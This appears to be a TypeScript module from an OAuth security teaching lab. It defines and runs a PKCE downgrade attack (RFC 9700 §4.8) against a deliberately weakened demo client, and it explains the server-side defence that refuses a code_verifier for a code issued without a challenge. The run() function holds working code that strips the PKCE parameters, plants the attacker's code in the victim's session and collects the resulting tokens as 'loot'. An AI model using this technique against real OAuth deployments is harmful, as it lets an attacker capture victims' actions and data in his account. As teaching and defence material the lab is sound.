/**
 * PKCE downgrade: the attacker gets a code issued without a challenge and plants it in the
 * victim's session, whose client redeems it with its own verifier. A server that ignores a
 * verifier sent for a code without a challenge lets it through.
 * @see [RFC 9700 §4.8](https://www.rfc-editor.org/rfc/rfc9700#section-4.8)
 */
import * as oauth from 'oauth4webapi'
import { rfc } from '../shared/spec-links.ts'
import { attackActors, defineAttack } from './attack-model.ts'
import {
  callbackUri,
  confidentialClient,
  discoverServer,
  landedOn,
  signIn,
  startLogin,
  stolenToken,
  via,
} from './lab-client.ts'

const attackId = 'pkce-downgrade'
const scope = 'openid profile orders:read orders:write'
const weakened = confidentialClient('grantlab-lax-pkce')
const twin = confidentialClient('grantlab-lab-web')

export const pkceDowngradeAttack = defineAttack({
  id: attackId,
  title: 'PKCE downgrade',
  goal: 'Plant the attacker’s own code in the victim’s session although her app uses PKCE, by getting a code that has no challenge at all.',
  summary:
    'This app relies on PKCE against CSRF and sends no state. The attacker starts a login of his own at it, strips the code_challenge from his authorization request, signs in as bob and keeps the code. He plants it in Alice’s session; her client redeems it with her verifier. The server must notice that a verifier came for a code that was issued without a challenge.',
  specs: [rfc(9700, '4.8'), rfc(9700, '4.8.2'), rfc(7636, '4.6')],
  actors: [attackActors.victim, attackActors.attacker, attackActors.client, attackActors.as],
  defence: {
    label: 'Defence: refuse a verifier without a challenge',
    explanation:
      'The server remembers whether a code was issued with a code_challenge. A token request that brings a code_verifier for a code issued without one is refused: the verifier shows the client used PKCE, so the code must have been issued to someone else’s request.',
    spec: rfc(9700, '4.8.2'),
    side: 'server',
    whenOff:
      'The app is grantlab-lax-pkce, a demo client for which this server ignores a code_verifier when the code had no challenge. Every other client gets the check.',
  },
  clients: [
    {
      clientId: 'grantlab-lax-pkce',
      when: 'defence-off',
      note: 'WEAKENED: the server ignores a verifier sent for a code issued without a challenge.',
    },
    {
      clientId: 'grantlab-lab-web',
      when: 'defence-on',
      note: 'Its unweakened twin: a confidential, first-party web app.',
    },
  ],
  steps: [
    {
      id: 'victim-starts',
      label: 'alice: Sign in (PKCE, no state)',
      title: 'Alice starts signing in; her session keeps a PKCE verifier',
      from: 'victim',
      to: 'as',
      kind: 'redirect',
      spec: rfc(7636, '4.1'),
      explanation:
        'Alice clicks Sign in. The client makes a verifier for her session and sends its S256 hash; it sends no state, trusting PKCE to catch a code that does not belong to her. Her browser shows the sign-in page.',
    },
    {
      id: 'attacker-strips',
      label: 'bob: no code_challenge',
      title: 'The attacker signs in with the code_challenge removed',
      from: 'attacker',
      to: 'as',
      kind: 'redirect',
      spec: rfc(9700, '4.8.1'),
      explanation:
        'In his own browser the attacker starts a login at the same app, deletes code_challenge and code_challenge_method from the authorization request before sending it (his browser, his rules), and signs in as bob. A confidential client may leave PKCE out, so the server issues a code without a challenge. He keeps it, unused.',
    },
    {
      id: 'plant-code',
      label: 'alice’s browser opens the callback',
      title: 'The attacker makes Alice’s browser open the callback with his code',
      from: 'attacker',
      to: 'victim',
      kind: 'redirect',
      spec: rfc(9700, '4.7'),
      explanation:
        'As in any CSRF on the redirect URI: a link or a hidden image sends Alice’s browser to the client’s callback with the attacker’s code.',
    },
    {
      id: 'client-callback',
      label: 'client: no state to check',
      title: 'The client takes the code: it sent no state',
      from: 'victim',
      to: 'client',
      kind: 'redirect',
      spec: rfc(6749, '4.1.2'),
      explanation:
        'The client expects no state (expectNoState): it relies on PKCE. So it takes the code and redeems it with the verifier of Alice’s session.',
    },
    {
      id: 'client-redeems',
      label: 'POST /token (bob’s code, alice’s verifier)',
      title: 'The client redeems the attacker’s code with Alice’s verifier',
      from: 'client',
      to: 'as',
      kind: 'request',
      spec: rfc(9700, '4.8.2'),
      explanation:
        'The token request carries the attacker’s code and Alice’s verifier. The code has no challenge to compare the verifier with: the server either refuses the request, or ignores the verifier and issues Bob’s tokens into Alice’s session.',
    },
    {
      id: 'victim-saves',
      label: 'POST /api/orders as bob',
      title: 'Alice saves an order, into Bob’s account',
      from: 'victim',
      to: 'client',
      kind: 'request',
      spec: rfc(9700, '4.8'),
      explanation:
        'Alice believes she is in her own account and places an order. It is saved in Bob’s, where he can read it.',
    },
  ],
  async run(ctx) {
    const { client, auth } = ctx.defence ? twin : weakened
    const redirectUri = callbackUri(ctx.appOrigin, attackId)
    const { as, alice } = await ctx.step('victim-starts', async (s) => {
      const as = await discoverServer(s, ctx.issuer)
      const alice = await startLogin(as, {
        clientId: client.client_id,
        redirectUri,
        scope,
        state: false,
        pkce: true,
        prompt: 'login',
      })
      await ctx.victim.open(alice.url, s)
      s.show({ label: 'Alice’s authorization request', value: alice.url, format: 'url' })
      s.show({ label: 'Verifier kept in Alice’s session', value: alice.verifier ?? '' })
      s.summary('Alice’s browser is at the sign-in page; her session keeps a verifier.')
      return { as, alice }
    })
    const { planted, stripped } = await ctx.step('attacker-strips', async (s) => {
      // What the client would have sent for his session, then with the PKCE parameters deleted.
      const withPkce = await startLogin(as, {
        clientId: client.client_id,
        redirectUri,
        scope,
        state: false,
        pkce: true,
        prompt: 'login',
      })
      const stripped = new URL(withPkce.url)
      stripped.searchParams.delete('code_challenge')
      stripped.searchParams.delete('code_challenge_method')
      const start = await ctx.attacker.open(stripped.href, s)
      const landed = landedOn(await signIn(ctx.attacker, start, s, 'bob'), 'the callback')
      if (!landed.searchParams.has('code')) throw new Error(`No code came back: ${landed.href}`)
      s.show({ label: 'The request the attacker sent', value: stripped.href, format: 'url' })
      s.show({ label: 'The callback address he keeps', value: landed.href, format: 'url' })
      s.summary('The attacker holds a code issued without a challenge.')
      return { planted: landed.href, stripped: stripped.href }
    })
    const page = await ctx.step('plant-code', async (s) => {
      const page = await ctx.victim.open(planted, s)
      s.summary('Alice’s browser opened the client’s callback with the attacker’s code.')
      return page
    })
    const params = await ctx.step('client-callback', async (s) => {
      const returned = landedOn(page, 'the client’s callback')
      const params = oauth.validateAuthResponse(as, client, returned, oauth.expectNoState)
      s.show({ label: 'Address Alice’s browser is at', value: returned.href, format: 'url' })
      s.summary('No state was sent, so there is none to check: the client takes the code.')
      return params
    })
    const tokens = await ctx.step('client-redeems', async (s) => {
      try {
        const response = await oauth.authorizationCodeGrantRequest(
          as,
          client,
          auth,
          params,
          redirectUri,
          alice.verifier ?? '',
          via(s),
        )
        const tokens = await oauth.processAuthorizationCodeResponse(as, client, response)
        s.token(stolenToken('ID token now in Alice’s session', tokens.id_token ?? ''))
        s.summary(
          `The server ignored the verifier: Alice’s session is signed in as ${oauth.getValidatedIdTokenClaims(tokens)?.sub}.`,
        )
        return tokens
      } catch (error) {
        throw ctx.stopped(error, {
          check: 'code_verifier without code_challenge',
          spec: rfc(9700, '4.8.2'),
          by: 'authorization server',
          expected: { code: 'invalid_grant', text: /had no code_challenge/ },
        })
      }
    })
    const order = await ctx.step('victim-saves', async (s) => {
      const response = await s.fetch(new URL('/api/orders', ctx.appOrigin).href, {
        method: 'POST',
        headers: {
          authorization: `Bearer ${tokens.access_token}`,
          'content-type': 'application/json',
        },
        body: JSON.stringify({ item: 'Birthday present for the Queen of Hearts', quantity: 1 }),
      })
      const order = (await response.json()) as { owner?: string }
      if (!response.ok) throw new Error(`The API refused the order (${response.status}).`)
      s.show({ label: 'The order Alice placed', value: JSON.stringify(order), format: 'json' })
      s.summary(`Alice’s order was saved for ${order.owner}.`)
      return order
    })
    return {
      status: 'succeeded',
      summary: 'PKCE was downgraded: Alice’s session holds Bob’s tokens, and her order is his.',
      loot: {
        summary: `Bob's tokens were planted in Alice's session; her order belongs to ${order.owner}.`,
        tokens: [
          stolenToken('ID token planted in Alice’s session', tokens.id_token ?? ''),
          stolenToken('Access token planted in Alice’s session', tokens.access_token),
        ],
        values: [
          {
            label: 'Alice’s order, in Bob’s account',
            value: JSON.stringify(order),
            format: 'json',
          },
          {
            label: 'The attacker’s authorization request, without code_challenge',
            value: stripped,
            format: 'url',
          },
        ],
      },
    }
  },
})
